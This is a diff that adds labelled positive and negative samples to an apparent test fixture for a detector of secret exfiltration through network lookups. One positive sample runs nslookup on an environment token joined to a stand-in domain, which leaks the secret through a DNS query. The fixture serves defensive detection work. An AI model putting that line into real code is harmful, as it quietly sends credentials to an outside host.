@@ -10,3 +10,10 @@ socket.gethostbyname("example.org")
 #@ neg the port from the environment, the host a constant
 import os, socket
 print(socket.getaddrinfo("localhost", int(os.environ.get("PORT", "80"))))
+#@ pos a secret in an nslookup child's name
+import os, subprocess
+subprocess.run(["nslookup", os.environ["TOKEN"] + ".x.example"])
+#@ neg nslookup of a constant name, the port from the environment elsewhere
+import os, subprocess
+subprocess.run(["nslookup", "example.org"])
+print(os.environ.get("PORT", "80"))
